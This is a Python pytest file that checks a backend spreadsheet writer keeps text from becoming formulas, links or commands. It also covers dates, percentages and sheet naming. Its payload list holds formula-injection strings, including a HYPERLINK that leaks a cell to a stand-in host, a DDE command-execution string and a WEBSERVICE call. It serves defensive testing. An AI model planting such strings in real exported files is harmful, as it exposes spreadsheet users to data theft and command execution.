"""The writer of workbooks: whatever stands in a text, the file has no formula and no link, and opens again as it was."""

import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from backend.spreadsheets import Column, Line, Share, Sheet, plain_text, put_text, write_book

# Everything that a spreadsheet has been known to take for a formula, a link, an error value or a command (OWASP, DDE).
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("//bad.test?leak="&A1,"点这里")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=WEBSERVICE("//bad.test")',
    "#N/A",
    "#REF!",
    "mailto:a@bad.test",
    "//bad.test/share",
    "{=1+1}",
    "'=1+1",
    "=",
    "\x00\x01\x0b=1+1",
    "\ud800=1+1",
    "\ufffe=1",
)


def written(rows: list[list[object]], title: str = "案件") -> bytes:
    out = io.BytesIO()
    lines = [(Line.TITLE, "=1+1"), (Line.NOTE, "+2")]
    write_book(out, [Sheet(title, [Column("=1"), Column("@b")], rows, lines, lines)])  # type: ignore[arg-type]
    return out.getvalue()


def parts(book: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(book)) as opened:
        return "".join(opened.read(name).decode() for name in opened.namelist())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_or_a_link(payload: str) -> None:
    book = written([[payload, 1]], title=payload)
    xml = parts(book)
    assert "<f>" not in xml
    assert "<f " not in xml
    assert "hyperlink" not in xml.lower().replace("hyperlink(", "")
    sheet = load_workbook(io.BytesIO(book)).worksheets[0]
    cell = sheet["A4"]
    assert cell.data_type in {"s", "n"}
    # XML reads every line end as \n.
    assert (cell.value or "") == plain_text(payload).replace("\r", "\n")
    assert cell.quotePrefix


def test_a_cell_of_another_book_is_kept_from_becoming_a_formula() -> None:
    book = Workbook()
    put_text(book.active["A1"], "=1+1")  # type: ignore[index]
    out = io.BytesIO()
    book.save(out)
    assert "<f>" not in parts(out.getvalue())


@given(st.text(alphabet=st.characters(), max_size=60))
def test_every_text_can_be_written_and_read_again(text: str) -> None:
    sheet = load_workbook(io.BytesIO(written([[text, 0]]))).worksheets[0]
    assert (sheet["A4"].value or "") == plain_text(text).replace("\r\n", "\n").replace("\r", "\n")


def test_numbers_days_moments_and_shares_are_what_they_are() -> None:
    at = datetime(2026, 11, 29, 16, 30, tzinfo=UTC)
    rows: list[list[object]] = [[1054, 0.25], [date(2026, 11, 1), at], [Share(911 / 972), None], [True, False]]
    sheet = load_workbook(io.BytesIO(written(rows))).worksheets[0]
    assert [cell.value for cell in sheet[4]] == [1054, 0.25]
    assert [cell.value for cell in sheet[5]] == [datetime(2026, 11, 1), datetime(2026, 11, 30, 0, 30)]  # noqa: DTZ001
    assert (sheet["A6"].number_format, round(sheet["A6"].value, 4)) == ("0.00%", 0.9372)
    assert [cell.value for cell in sheet[7]] == ["是", "否"]


def test_sheets_of_one_name_are_told_apart_and_long_texts_are_cut() -> None:
    out = io.BytesIO()
    write_book(out, [Sheet("考核[1]/月", [], [["字" * 40_000]]), Sheet("考核[1]/月", [], [])])
    book = load_workbook(io.BytesIO(out.getvalue()))
    assert book.sheetnames == ["考核 1  月", "考核 1  月 2"]
    assert len(book.worksheets[0]["A1"].value) == 32_767
